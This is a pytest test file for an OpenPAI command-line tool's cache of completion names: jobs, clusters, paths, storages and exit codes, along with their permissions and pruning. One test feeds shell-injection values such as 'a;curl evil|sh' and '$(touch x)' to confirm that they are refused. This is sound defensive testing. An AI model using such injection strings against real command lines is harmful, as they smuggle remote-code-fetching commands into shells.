"""The lists of names for completion, which are kept by the commands that see the names."""

from __future__ import annotations

import stat
from types import SimpleNamespace

import pytest

from openpai_tasks.protocol.models import JobInfo
from openpai_tasks.sdk import known_names
from openpai_tasks.settings.registry import Cluster


def listed(shell, name):
    path = shell.home / "cache" / "names" / name
    return path.read_text().splitlines() if path.exists() else []


def test_jobs_are_recorded_when_they_are_submitted_listed_or_looked_at(cluster):
    cluster.ok("job.sub", "true", "-j", "noted-1")
    cluster.ok("job.sub", "true", "-j", "noted-2")
    assert listed(cluster, "jobs/local")[:2] == ["noted-2", "noted-1"]
    path = cluster.home / "cache" / "names" / "jobs" / "local"
    path.unlink()
    cluster.ok("job.list")
    assert listed(cluster, "jobs/local") == ["noted-2", "noted-1"]
    path.unlink()
    cluster.ok("job.status", "noted-1")
    assert listed(cluster, "jobs/local") == ["noted-1"]


def test_job_that_no_longer_exists_is_removed_from_the_list(cluster):
    path = cluster.home / "cache" / "names" / "jobs" / "local"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("gone\nother\n")
    assert cluster.inv("job.status", "gone").code == 122
    assert listed(cluster, "jobs/local") == ["other"]


def test_clusters_are_recorded_and_removed_with_their_jobs(shell):
    address = "https://pai.example.org"
    shell.ok("cluster.add", "lab", address, "--user", "ann", "--no-check", "--token", "x")
    shell.ok("cluster.add", "lab-2", address, "--user", "ann", "--no-check", "--token", "x")
    assert listed(shell, "clusters") == ["local", "lab", "lab-2", "any"]
    jobs = shell.home / "cache" / "names" / "jobs"
    jobs.mkdir()
    (jobs / "lab").write_text("old\n")
    shell.ok("cluster.delete", "lab")
    assert listed(shell, "clusters") == ["local", "lab-2", "any"]
    assert listed(shell, "jobs/lab") == []


def test_templates_are_recorded(shell):
    shell.ok("job.templates")
    assert "hello" in listed(shell, "templates")


def test_lists_are_private_to_the_user(shell):
    shell.ok("cluster.list")
    path = shell.home / "cache" / "names" / "clusters"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_list_that_cannot_be_written_is_not_an_error(shell):
    shell.home.mkdir()
    (shell.home / "cache").write_text("a file in the way")
    assert shell.ok("cluster.list").err == ""


def note_paths(*urls):
    for _ in known_names.note_paths(SimpleNamespace(url=url, type="file") for url in urls):
        pass


def test_virtual_clusters_and_paths_are_recorded(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENPAI_HOME", str(tmp_path))
    known_names.note_clusters([Cluster("lab", "https://x", virtual_clusters=("research", "default"))])
    assert (known_names.folder() / "virtual-clusters").read_text() == "default\nresearch\n"
    note_paths("pai://lab/b/", "pai://lab/a.txt")
    note_paths("pai://lab/b/", "pai://lab/b/c\nd", "pai://lab/b/e")
    assert (known_names.folder() / "paths").read_text() == "pai://lab/a.txt\npai://lab/b/\npai://lab/b/e\n"


def test_a_list_stays_short_and_keeps_the_newest(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENPAI_HOME", str(tmp_path))
    note_paths(*(f"pai://lab/{number:05}" for number in range(known_names.MOST_PATHS)))
    note_paths("pai://lab/new")
    kept = (known_names.folder() / "paths").read_text().splitlines()
    assert len(kept) == known_names.MOST_PATHS and "pai://lab/new" in kept


@pytest.mark.parametrize(
    "name", ["a;curl evil|sh", "$(touch x)", "`x`", "a b", "-rf", "a\nb", "a'b", "\ud800", ""]
)
def test_name_with_shell_metacharacters_is_not_recorded(tmp_path, monkeypatch, name):
    """Completion inserts recorded names into a command line."""
    monkeypatch.setenv("OPENPAI_HOME", str(tmp_path))
    known_names.note_storages([name, "team"])
    assert (known_names.folder() / "storages").read_text() == "team\n"


def job(name, state, code, submitted=1000):
    return JobInfo(name, "alice", state, "default", submitted, 1, 2, code, 255, 0, 0, 0, 1, ())


def test_exit_code_that_was_seen_is_added_to_the_list(monkeypatch, tmp_path):
    monkeypatch.setenv("OPENPAI_HOME", str(tmp_path))
    client = SimpleNamespace(user="alice", cluster=Cluster("lab", "http://127.0.0.1:1"))
    listed = [job("bad", "FAILED", None), job("other", "FAILED", None), job("late", "RUNNING", None)]
    assert known_names.add_exits(client, listed) == listed
    known_names.note_exits(client, [job("bad", "FAILED", 3), job("good", "SUCCEEDED", 0)])
    codes = [one.exit_code for one in known_names.add_exits(client, listed)]
    assert codes == [3, None, None]
    again = [job("bad", "FAILED", None, submitted=2000)]  # a later job with the same name
    assert known_names.add_exits(client, again) == again
    path = tmp_path / "cache" / "exits" / "lab"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and path.read_text() == "alice~bad 1000 3\n"
    path.write_text("alice~bad 1000 x\n\nnonsense\n")
    assert known_names.add_exits(client, listed) == listed
